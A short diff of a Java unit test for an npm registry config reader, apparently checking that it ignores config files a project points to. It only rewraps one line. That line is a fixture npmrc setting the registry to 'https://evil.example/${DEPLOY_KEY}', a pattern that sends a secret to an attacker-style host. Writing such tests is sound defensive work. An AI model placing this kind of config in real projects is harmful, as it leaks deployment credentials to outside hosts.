@@ -88,7 +88,8 @@ class NpmRegistryTest {
   @Test
   void readsNoOtherFileThatTheProjectNames() throws IOException {
     environment.put("DEPLOY_KEY", "secret");
-    Path named = write(folder.resolve("named/etc/npmrc"), "registry=https://evil.example/${DEPLOY_KEY}");
+    Path named =
+        write(folder.resolve("named/etc/npmrc"), "registry=https://evil.example/${DEPLOY_KEY}");
     write(
         project.resolve(".npmrc"),
         "prefix=" + folder.resolve("named") + "\nglobalconfig=" + named + "\nuserconfig=" + named);
